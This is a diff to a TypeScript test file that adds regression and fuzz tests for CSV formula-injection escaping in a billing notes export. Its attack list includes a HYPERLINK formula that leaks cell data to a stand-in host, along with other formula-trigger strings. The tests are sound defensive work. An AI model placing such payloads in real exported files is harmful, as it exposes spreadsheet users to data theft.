@@ -1,8 +1,17 @@
 import 'fake-indexeddb/auto';
+import fc from 'fast-check';
 import Papa from 'papaparse';
 import { afterEach, beforeEach, expect, test } from 'vitest';
-import { ClaimLensDb, type NoteRecord } from '../ruledata/db';
-import { addNote, matchesClaimQuery, notesCsvBlob, notesForClaim, notesToCsv, searchNotes } from './history';
+import { ClaimLensDb } from '../db';
+import {
+  addNote,
+  matchesClaimQuery,
+  type NoteRecord,
+  notesCsvBlob,
+  notesForClaim,
+  notesToCsv,
+  searchNotes,
+} from './history';
 
 let db: ClaimLensDb;
 beforeEach(async () => {
@@ -87,4 +96,76 @@ test('the download opens in Excel as UTF-8 (byte-order mark) with the em dash in
   expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
   expect(new TextDecoder().decode(bytes)).toContain('paid — JD');
   expect(blob.type).toBe('text/csv;charset=utf-8');
+});
+
+test('every cell that starts like a formula is escaped, whatever follows it (line breaks included)', () => {
+  // papaparse's own escapeFormulae pattern (^[=+\-@\t\r].*$) misses a cell with a line break in it.
+  const attacks = [
+    '=HYPERLINK("https://x.example/?d="&A1,"Open")\n',
+    '+1+1\r\nmore',
+    '-2+3\nx',
+    '@SUM(A1)\n',
+    '\t=1+1',
+    '\r=1+1',
+    '\uFF1D1+1', // full-width =
+    '\uFF0B1\n',
+    '\uFF0D1\n',
+    '\uFF20SUM(A1)\n',
+    ' =1+1\n', // a leading space is trimmed by some importers
+  ];
+  const rows = attacks.map((a, i) => ({ ...note(a, '2026-11-27T10:00:00Z', a), claimKey: String(i) }));
+  const cells = Papa.parse<string[]>(notesToCsv(rows), { newline: '\r\n', delimiter: ',' }).data.slice(1, -1);
+  expect(cells.length).toBe(attacks.length);
+  for (const [i, row] of cells.entries()) {
+    // Claim number and note: both shown as text, with nothing dropped from the biller's note.
+    expect(row[1]).toBe(`'${attacks[i]}`);
+    expect(row[4]).toBe(`'${attacks[i]}`);
+  }
+});
+
+test('fuzz: no cell of the CSV, read back, can start a formula, and no text is lost', () => {
+  const risky = fc.constantFrom(
+    '=',
+    '+',
+    '-',
+    '@',
+    '\t',
+    '\r',
+    '\n',
+    ' ',
+    '"',
+    ',',
+    '\uFF1D',
+    '\uFF0B',
+    'a',
+    '1',
+  );
+  const cell = fc.oneof(
+    fc.string({ maxLength: 30 }),
+    fc.array(risky, { maxLength: 12 }).map((a) => a.join('')),
+  );
+  const runs = fc.array(fc.tuple(cell, cell), { minLength: 1, maxLength: 5 });
+  fc.assert(
+    fc.property(runs, (pairs) => {
+      const rows = pairs.map(([claim, text], i) => ({
+        ...note(claim, '2026-11-27T10:00:00Z', text),
+        claimKey: String(i),
+      }));
+      const back = Papa.parse<string[]>(notesToCsv(rows), { newline: '\r\n', delimiter: ',' }).data.slice(
+        1,
+        -1,
+      );
+      for (const [i, row] of back.entries()) {
+        const cells: [string, string][] = [
+          [row[1] ?? '', pairs[i]?.[0] ?? ''],
+          [row[4] ?? '', pairs[i]?.[1] ?? ''],
+        ];
+        for (const [value, original] of cells) {
+          expect(/^[\t\r\n]|^[\s\uFEFF]*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]/.test(value)).toBe(false);
+          expect(value === original || value === `'${original}`).toBe(true);
+        }
+      }
+    }),
+    { seed: 20261212, numRuns: 2000 },
+  );
 });
